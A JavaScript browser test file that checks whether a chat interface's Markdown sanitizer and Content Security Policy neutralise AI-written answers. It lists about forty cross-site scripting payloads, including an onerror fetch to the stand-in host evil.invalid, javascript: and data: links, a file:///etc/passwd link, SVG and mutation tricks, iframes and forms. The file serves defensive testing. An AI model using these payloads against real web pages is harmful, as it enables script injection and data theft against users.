// What a model writes is shown, and does nothing: no script, no load, no link but to the web, no form, no frame.

import { answerWith, ask, assert, lastAnswer, scenario, streamed, written } from "./harness.mjs";

const EVIL = "http://evil.invalid/x";
const ATTACKS = [
  `<img src="${EVIL}.png" onerror="fetch('${EVIL}')">`,
  `![picture](${EVIL}.png)`,
  `![a](${EVIL}.png "onload=alert(1)")`,
  `![" onerror="alert(1)](${EVIL})`,
  `[![nested](${EVIL}.png)](${EVIL})`,
  "<script>alert(1)</script>",
  `<script src="${EVIL}.js"></script>`,
  "<svg onload=alert(1)><circle/></svg>",
  "<svg><script>alert(1)</script></svg>",
  `<svg><image href="${EVIL}.png"/><use href="${EVIL}.svg#a"/></svg>`,
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:msgbox(1))",
  "[click](file:///etc/passwd)",
  "[click](/metrics)",
  "[click](//evil.invalid/x)",
  "[click](blob:x)",
  "<javascript:alert(1)>",
  '[click][r]\n\n[r]: javascript:alert(1) "title"',
  `<iframe src="${EVIL}"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="${EVIL}"></object><embed src="${EVIL}">`,
  `<form action="${EVIL}"><input name=a autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">go</button></form>`,
  `<style>@import url("${EVIL}.css"); body { display: none; background: url(${EVIL}.png) }</style>`,
  `<link rel=stylesheet href="${EVIL}.css"><link rel=prefetch href="${EVIL}"><meta http-equiv=refresh content="0;url=${EVIL}"><base href="${EVIL}">`,
  `<div style="background:url(${EVIL}.png);position:fixed;inset:0">over everything</div>`,
  `<p id="message" class="error" name="body">clobber</p>`,
  `<a href="javascript:alert(1)" onclick="alert(1)" style="position:fixed">x</a>`,
  `<details open ontoggle=alert(1)><summary>s</summary></details>`,
  `<video src="${EVIL}.mp4" poster="${EVIL}.png" autoplay onloadstart=alert(1)></video><audio src="${EVIL}.mp3"></audio>`,
  `<b onmouseover="alert(1)">bold</b> <br onload=alert(1)> <sub class="x" style="color:red">sub</sub>`,
  `<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>`,
  "```html\"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
  "```\" onclick=\"alert(1)\ncode\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> | b |\n| :-- | --: |\n| <script>alert(1)</script> | 2 |",
  `<${EVIL}> and www.evil.invalid and me@evil.invalid`,
  "<x-y is=a onclick=alert(1)>custom</x-y>\u0000\u202e",
  "- [ ] open\n- [x] done <input type=checkbox onclick=alert(1)>",
];

// What is in an element and must not be.
function forbidden(answer) {
  const allowed = "A B BLOCKQUOTE BR BUTTON CODE DEL DIV EM H3 H4 H5 H6 HR I KBD LI MARK OL P PRE S SPAN STRONG SUB SUP svg use TABLE TBODY TD TH THEAD TR U UL".split(" ");
  const attributes = "align aria-hidden aria-label class href rel role start tabindex target title type".split(" ");
  const found = [];
  for (const node of answer.querySelectorAll("*")) {
    if (!allowed.includes(node.tagName)) found.push(`element ${node.tagName}`);
    for (const { name } of node.attributes) if (!attributes.includes(name)) found.push(`${node.tagName} ${name}`);
    if (node.tagName === "A") {
      if (!/^(https?|mailto):/.test(node.getAttribute("href"))) found.push(`link ${node.getAttribute("href")}`);
      if (node.rel !== "noopener noreferrer nofollow" || node.target !== "_blank") found.push("link without rel");
    }
    if (node.tagName === "use" && !/^#icon-/.test(node.getAttribute("href"))) found.push("use");
  }
  return found;
}

await scenario(async ({ page }) => {
  // In pieces of few letters, so that half-written tags and links are shown on the way.
  const pieces = (text) => Array.from(text.match(/[^]{1,3}/gu) ?? []);
  await answerWith(page, ...ATTACKS.flatMap((text) => [streamed(pieces(text))]), streamed(pieces(ATTACKS.join("\n\n"))));
  for (const text of [...ATTACKS, "all of them at once"]) {
    await ask(page, "x");
    await written(page);
    await lastAnswer(page).locator(".stats").waitFor();
    assert.deepEqual(await lastAnswer(page).locator(".answer").evaluate(forbidden), [], text);
    // HTML is not taken away, but shown.
    if (/^<(img|script|iframe|form|style|div) /.test(text)) assert.ok((await lastAnswer(page).locator(".answer").textContent()).includes(text.slice(0, 3)), text);
    assert.equal(await lastAnswer(page).locator(".error p").count(), 0, text);
  }
  assert.equal(await page.locator("#message").evaluate((node) => node.tagName), "TEXTAREA");

  // The sanitizer by itself, with what no Markdown becomes.
  await page.evaluate(async (attacks) => {
    const { sanitized } = await import("./page/markdown.js");
    const made = document.createElement("div");
    made.id = "sanitized";
    made.append(...attacks.map(sanitized));
    document.querySelector("main").append(made);
  }, ATTACKS);
  assert.deepEqual(await page.locator("#sanitized").evaluate(forbidden), []);
  await page.evaluate(() => document.getElementById("sanitized").remove());

  // A question is text, not Markdown.
  await answerWith(page, streamed(["ok"]));
  await ask(page, "<b>**x**</b><img src=x onerror=alert(1)>");
  await written(page);
  const bubble = page.locator(".message.user .bubble").last();
  assert.equal(await bubble.textContent(), "<b>**x**</b><img src=x onerror=alert(1)>");
  assert.equal(await bubble.locator("*").count(), 0);

  // What is wanted is there.
  const text = [
    "# One\n\n**bold** *it* ~~gone~~ `code` H<sub>2</sub>O [web](https://example.org/a?b=1&c=2)\n",
    "```python\nprint('<b>')\n```\n\n1. a\n2. b\n   - c\n\n> quoted\n\n| n | v |\n|---|--:|\n| a<br>b | 1 |\n\n",
    "![a cat](https://example.org/cat.png) and [by reference][r]\n\n[r]: https://example.org/r\n\n3. three\n\n- [x] done",
  ].join("\n");
  await answerWith(page, streamed(pieces(text)));
  await ask(page, "all");
  await written(page);
  const answer = lastAnswer(page).locator(".answer");
  assert.equal(await answer.locator("h3").textContent(), "One", "headings are below those of the page");
  assert.equal(await answer.locator("p").first().innerHTML(), '<strong>bold</strong> <em>it</em> <del>gone</del> <code>code</code> H<sub>2</sub>O <a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">web</a>');
  assert.equal(await answer.locator("pre code").textContent(), "print('<b>')");
  assert.equal(await answer.locator("pre").getAttribute("aria-label"), "Code, python");
  assert.deepEqual(await answer.locator("ol > li").allTextContents(), ["a", "b\nc\n\n", "three"]);
  assert.equal(await answer.locator('ol[start="3"]').count(), 1);
  assert.match(await answer.locator("td").last().evaluate((node) => getComputedStyle(node).textAlign), /right$/);
  assert.equal(await answer.locator("td br").count(), 1);
  assert.equal(await answer.locator('a[href="https://example.org/cat.png"]').textContent(), "a cat");
  assert.equal(await answer.locator('a[href="https://example.org/r"]').textContent(), "by reference");
  assert.match(await answer.locator("ul li").last().textContent(), /☑ done/);

  // The policy itself stops what would get past the sanitizer.
  const stopped = await page.evaluate(async () => {
    globalThis.violated = new Set();
    document.addEventListener("securitypolicyviolation", (event) => violated.add(event.effectiveDirective));
    const image = new Image();
    const loads = new Promise((done) => (image.onload = image.onerror = (event) => done(event.type)));
    image.src = new URL("/health", location.href);
    const fetched = await fetch("http://evil.invalid/").then(() => "answered", () => "stopped");
    const html = (() => {
      try {
        document.createElement("div").innerHTML = "<b>x</b>";
        return "taken";
      } catch (error) {
        return error.name;
      }
    })();
    return { image: await loads, fetched, html };
  });
  assert.deepEqual(stopped, { image: "error", fetched: "stopped", html: "TypeError" });
  await page.waitForFunction(() => violated.size === 3);
  const violated = await page.evaluate(() => [...globalThis.violated].sort());
  assert.deepEqual(violated, ["connect-src", "img-src", "require-trusted-types-for"]);
}, { expected: [/Content Security Policy|TrustedHTML/] });
